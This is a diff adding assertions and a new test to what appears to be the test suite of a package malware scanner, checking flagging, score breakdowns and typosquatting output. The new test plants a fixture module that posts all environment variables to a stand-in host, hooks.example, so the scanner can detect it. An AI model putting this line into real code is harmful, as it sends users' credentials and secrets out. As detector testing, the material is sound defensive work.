@@ -46,6 +46,23 @@ def test_every_package_gets_one_record_and_a_broken_one_does_not_stop_the_rest(t
     assert outcomes["bad"].record["score"] > outcomes["good"].record["score"] == 0
     assert outcomes["good"].record["files"][0]["sha256"] == good.files[0].sha256
     assert str(tmp_path) not in repr(outcomes["bad"].record)  # no path of the scanning machine
+    assert outcomes["bad"].record["flagged"] is True and outcomes["good"].record["flagged"] is False
+    assert outcomes["good"].record["typosquatting"]["checked"] is False  # no popular names were given
+
+
+def test_a_record_explains_its_score(tmp_path):
+    payload = "import os\nimport requests\nrequests.post('https://hooks.example/x', data=dict(os.environ))\n"
+    sdist = build_sdist("leaky", "1.0", modules={"leaky/__init__.py": payload, "tests/test_x.py": PAYLOAD})
+    [outcome] = scan_packages([_package(tmp_path, "leaky", sdist)], workers=1, timeout=60, top_names=["leaky"])
+    record = outcome.record
+    parts = record["score_parts"]
+    recomputed = sum(part["score"] * part["counts"] for part in parts)
+    assert record["score"] == round(min(100.0, recomputed), 1)
+    assert parts[0]["path"] == "leaky-1.0/leaky/__init__.py" and parts[0]["counts"] == 1.0
+    assert "credentials.environment-dump" in parts[0]["rules"]
+    weights = {d["path"]: d["weight"] for d in record["detections"]}
+    assert weights == {"leaky-1.0/leaky/__init__.py": 1.0, "leaky-1.0/tests/test_x.py": 0.5}
+    assert record["typosquatting"] == {"checked": True, "popular_names": 1, "basis": "1 names given"}
 
 
 def test_results_are_cached_by_file_sha256_and_ruleset(tmp_path, database):
